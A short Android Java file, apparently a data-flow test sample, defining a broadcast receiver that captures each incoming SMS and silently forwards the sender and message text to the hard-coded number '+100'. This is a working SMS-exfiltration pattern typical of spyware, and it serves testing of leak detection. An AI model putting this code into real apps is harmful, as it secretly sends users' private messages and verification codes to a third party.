package org.example.flows.phone;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.gsm.SmsManager;
import android.telephony.gsm.SmsMessage;

@SuppressWarnings("deprecation")
public class OldSms extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Object[] pdus = (Object[]) intent.getSerializableExtra("pdus");
        SmsMessage[] messages = new SmsMessage[pdus.length];
        for (int at = 0; at < pdus.length; at++) {
            messages[at] = SmsMessage.createFromPdu((byte[]) pdus[at]);
        }
        String from = messages[0].getOriginatingAddress();
        String body = messages[0].getDisplayMessageBody();
        SmsManager.getDefault().sendTextMessage("+100", null, from + ": " + body, null, null);
    }
}
